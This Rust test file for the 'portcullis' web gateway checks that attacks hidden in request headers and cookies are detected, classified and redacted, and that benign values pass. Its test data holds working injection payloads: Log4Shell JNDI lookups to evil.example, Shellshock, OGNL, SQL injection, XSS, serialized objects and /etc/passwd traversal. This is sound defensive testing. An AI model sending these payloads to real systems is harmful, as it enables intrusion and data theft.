//! Cookies and headers that no rule names: what is found there by default, what is left alone, and what an alert shows of it.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test that cannot go on fails"
)]

use portcullis::alert::{Context, alerts};
use portcullis::field::Field;
use portcullis::headers::Headers;
use portcullis::inspect::{Detection, Inspector};
use portcullis::limits;
use portcullis::policy::{Action, Found, Live, Place, Policy, enforce};
use portcullis::suspect::Scope;
use portcullis_tests::{BROWSER, inspector};

type Pairs<'a> = Vec<(&'a [u8], &'a [u8])>;

fn request<'a>(name: &'a str, value: &'a str) -> Pairs<'a> {
    vec![
        (b":method", b"GET"),
        (b":path", b"/account?tab=1"),
        (b":authority", b"shop.example"),
        (b"user-agent", BROWSER.as_bytes()),
        (name.as_bytes(), value.as_bytes()),
    ]
}

fn found(inspector: &mut Inspector, name: &str, value: &str) -> Vec<Detection> {
    let pairs = request(name, value);
    inspector
        .request(Headers::Pairs(&pairs), &())
        .detections
        .to_vec()
}

fn types(inspector: &Inspector, pairs: &Pairs<'_>, found: &[Detection]) -> Vec<String> {
    let headers = Headers::Pairs(pairs);
    let decide = |_: portcullis::policy::RuleName<'_>, _, _| Action::Detected;
    alerts(
        inspector.rules(),
        found,
        headers,
        &Context::default(),
        decide,
    )
    .iter()
    .map(|alert| alert.alert_type.to_owned())
    .collect()
}

const ATTACKS: &[(&str, &str, &str)] = &[
    (
        "x-api-version",
        "${jndi:ldap://evil.example/a}",
        "Gateway_CodeInjection",
    ),
    (
        "authorization",
        "${jndi:ldap://evil.example/a}",
        "Gateway_CodeInjection",
    ),
    (
        "accept-language",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "Gateway_CodeInjection",
    ),
    (
        "x-custom",
        "() { :;}; /bin/bash -c 'id'",
        "Gateway_CommandInjection",
    ),
    (
        "content-type",
        "%{(#a='multipart/form-data').(#b=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "Gateway_CodeInjection",
    ),
    (
        "x-forwarded-for",
        "1.1.1.1' and sleep(5)-- -",
        "Gateway_SqlInjection",
    ),
    (
        "x-forwarded-host",
        "\"><script>alert(1)</script>",
        "Gateway_CrossSiteScripting",
    ),
    (
        "cookie",
        "a=1; id=1' or '1'='1; b=2",
        "Gateway_SqlInjection",
    ),
    (
        "cookie",
        "a=1; id=1%27%20or%20%271%27=%271",
        "Gateway_SqlInjection",
    ),
    (
        "cookie",
        "a=1; id=-1 union select password from users",
        "Gateway_SqlInjection",
    ),
    (
        "cookie",
        "q=%3Csvg%20onload=alert(1)%3E",
        "Gateway_CrossSiteScripting",
    ),
    (
        "cookie",
        "s=O:8:\"EvilTest\":1:{s:3:\"cmd\";s:2:\"id\";}",
        "Gateway_CodeInjection",
    ),
    (
        "cookie",
        "s=O%3A8%3A%22EvilTest%22%3A1%3A%7Bs%3A3%3A%22cmd%22%3Bs%3A2%3A%22id%22%3B%7D",
        "Gateway_CodeInjection",
    ),
    (
        "cookie",
        "s=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
        "Gateway_CodeInjection",
    ),
    (
        "cookie",
        "lang=../../../../etc/passwd",
        "Gateway_PathTraversal",
    ),
    (
        "cookie",
        "lang=..%2f..%2f..%2fetc%2fpasswd",
        "Gateway_PathTraversal",
    ),
    (
        "cookie",
        "x=${jndi:ldap://evil.example/a}",
        "Gateway_CodeInjection",
    ),
];

const ORDINARY: &[(&str, &str)] = &[
    (
        "sec-ch-ua",
        "\"Not(A:Brand\";v=\"8\", \"Chromium\";v=\"131\"",
    ),
    (
        "authorization",
        "Digest username=\"O'Brien\", realm=\"a realm\", nonce=\"abc\", uri=\"/x\"",
    ),
    (
        "authorization",
        "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    ),
    (
        "via",
        "1.1 varnish (Varnish/6.0), 1.1 abc.cloudfront.net (CloudFront)",
    ),
    (
        "x-forwarded-client-cert",
        "By=spiffe://a/b;Subject=\"CN=O'Brien,O=Example\";URI=spiffe://c",
    ),
    (
        "next-router-state-tree",
        "%5B%22%22%2C%7B%22children%22%3A%5B%22(app)%22%2C%7B%7D%5D%7D%5D",
    ),
    (
        "x-client-info",
        "{\"platform\":\"ios\",\"version\":\"17.1\",\"query\":{\"$top\":5}}",
    ),
    ("x-search", "rock 'n' roll and d'Artagnan's friends"),
    (
        "content-disposition",
        "attachment; filename=\"it's (1).pdf\"",
    ),
    ("from", "\"O'Brien, Pat\" <pat@example.org>"),
    ("x-user", "() => { return 1 }"),
    (
        "cookie",
        "CookieConsent={stamp:%27abc+de/==%27%2Cnecessary:true%2Cmethod:%27explicit%27%2Cver:1}",
    ),
    (
        "cookie",
        "mp=%7B%22distinct_id%22%3A%20%22%24device%3A18c%22%2C%22%24initial_referrer%22%3A%20%22%24direct%22%7D",
    ),
    (
        "cookie",
        "user={\"name\":\"O'Brien\",\"id\":5}; q=\"quoted value\"",
    ),
    (
        "cookie",
        "recent=%7B%22q%22%3A%22rock%20and%20roll%22%2C%22n%22%3A%222%20or%203%22%7D",
    ),
    (
        "cookie",
        "search=select%20sofas%20and%20tables; last=men's shoes; seen='1'",
    ),
    (
        "cookie",
        "utm={\"source\":\"google (cpc)\",\"campaign\":\"50% off\"}; path=/etc/",
    ),
    (
        "cookie",
        "cart=[{\"id\":1,\"n\":\"5' ladder\"}]; tz=Europe%2FBerlin; v=1..2",
    ),
];

#[test]
fn attacks_are_found_and_told_for_what_they_are() {
    let mut inspector = inspector();
    for (name, value, wanted) in ATTACKS {
        let found = found(&mut inspector, name, value);
        let pairs = request(name, value);
        let types = types(&inspector, &pairs, &found);
        assert!(
            types.iter().any(|kind| kind == wanted),
            "{name}: {value}: {types:?}"
        );
        for detection in &found {
            let evidence = detection.evidence.as_ref().expect("a text was found");
            let fields: &[Field] = match *name {
                "cookie" => &[Field::CookieValue, Field::CommandLine],
                _ => &[Field::Header, Field::CommandLine],
            };
            assert!(
                fields.contains(&evidence.field),
                "{name}: {value}: {evidence:?}"
            );
        }
    }
}

#[test]
fn ordinary_values_raise_nothing() {
    let mut inspector = inspector();
    for (name, value) in ORDINARY {
        for scope in [Scope::Suspicious, Scope::All] {
            inspector.set_scope(scope);
            let found = found(&mut inspector, name, value);
            assert_eq!(found, [], "{name}: {value} ({scope:?})");
        }
    }
}

#[test]
fn a_secret_is_not_told_with_the_attack() {
    let mut inspector = inspector();
    let secret = "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldA";
    for (name, value) in [
        (
            "authorization",
            format!("Bearer {secret}.${{jndi:ldap://evil.example/a}}"),
        ),
        (
            "authorization",
            format!("${{jndi:ldap://evil.example/{secret}}}"),
        ),
        ("cookie", format!("sessionid={secret}' or '1'='1")),
    ] {
        let found = found(&mut inspector, name, &value);
        let pairs = request(name, &value);
        let headers = Headers::Pairs(&pairs);
        let decide = |_: portcullis::policy::RuleName<'_>, _, _| Action::Detected;
        let alerts = alerts(
            inspector.rules(),
            &found,
            headers,
            &Context::default(),
            decide,
        );
        assert!(!alerts.is_empty(), "{value}");
        let text = serde_json::to_string(&alerts).unwrap();
        assert!(!text.contains(secret), "{text}");
    }
}

#[test]
fn a_policy_says_which_are_inspected() {
    let mut inspector = inspector();
    let value = "a=1; id=1' or '1'='1";
    let pairs = request("cookie", value);
    let headers = Headers::Pairs(&pairs);
    for (policy, count) in [
        (r#"{}"#, 1),
        (r#"{"headers": {"inspect": "off"}}"#, 0),
        (r#"{"headers": {"inspect": "all"}}"#, 1),
        (
            r#"{"routes": [{"match": {"path_prefix": "/account"}, "policy": {"headers": {"inspect": "off"}}}]}"#,
            0,
        ),
        (
            r#"{"routes": [{"match": {"path_prefix": "/other"}, "policy": {"headers": {"inspect": "off"}}}]}"#,
            1,
        ),
        (
            r#"{"exceptions": [{"rules": ["Gateway_SqlInjection"], "cookie": ["id"]}]}"#,
            0,
        ),
        (
            r#"{"exceptions": [{"rules": ["Gateway_SqlInjection"], "cookie": ["a"]}]}"#,
            1,
        ),
        (
            r#"{"exceptions": [{"rules": ["Gateway_SqlInjection"], "parameter": ["id"]}]}"#,
            1,
        ),
        (
            r#"{"exceptions": [{"rules": ["Gateway_SqlInjection"], "header": ["Cookie"]}]}"#,
            0,
        ),
    ] {
        let read = Policy::read(policy.as_bytes()).unwrap();
        inspector.set_scope(read.scope());
        let detections = inspector.request(headers, &()).detections.to_vec();
        let (place, live) = (Place::of(headers), Live::default());
        let effective = read.effective(&place, &live, 0);
        let found = Found {
            event: headers.into(),
            body: None,
            detections,
        };
        let standing = enforce(&mut inspector, found, &(), &effective);
        assert_eq!(standing.len(), count, "{policy}: {standing:?}");
    }
    let route =
        r#"{"routes": [{"match": {"path": "/"}, "policy": {"headers": {"inspect": "all"}}}]}"#;
    let error = Policy::read(route.as_bytes()).unwrap_err().to_string();
    assert!(error.contains("headers.inspect: only `off`"), "{error}");
}

/// An attack behind junk is found, or the request is called truncated.
#[test]
fn junk_hides_nothing_silently() {
    let mut inspector = inspector();
    for unit in ["'", "%27", "&'", "x=';", "${", "((1"] {
        let junk = unit.repeat(70_000 / unit.len());
        for cookie in [
            format!("{junk}; id=1' union select password from users-- -"),
            format!("j={junk}; id=1' union select password from users-- -"),
        ] {
            let pairs = request("cookie", &cookie);
            let inspection = inspector.request(Headers::Pairs(&pairs), &());
            assert!(
                inspection.truncated || !inspection.detections.is_empty(),
                "{unit}"
            );
        }
    }
    let padded = format!(
        "id={}' union select password from users-- -",
        "a".repeat(limits::FIELD_BYTES / 2)
    );
    assert!(!found(&mut inspector, "cookie", &padded).is_empty());
}
